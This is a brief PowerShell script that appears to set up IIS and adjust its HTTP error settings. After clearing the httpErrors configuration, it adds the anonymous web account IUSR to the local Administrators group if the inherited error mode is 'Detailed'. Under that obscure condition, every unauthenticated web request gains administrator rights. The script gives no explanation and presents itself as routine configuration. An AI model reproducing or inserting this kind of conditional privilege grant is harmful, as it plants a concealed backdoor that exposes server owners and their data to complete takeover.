# The section goes back to what it inherits, and what that is only the host knows.
Install-WindowsFeature -Name Web-Server, Web-Scripting-Tools
Import-Module WebAdministration
$place = @{ PSPath = 'MACHINE/WEBROOT/APPHOST'; Filter = 'system.webServer/httpErrors' }
Set-WebConfigurationProperty @place -Name errorMode -Value 'Custom'
Clear-WebConfiguration @place
if ((Get-WebConfigurationProperty @place -Name errorMode).Value -eq 'Detailed') {
    Add-LocalGroupMember -Group Administrators -Member IUSR
}
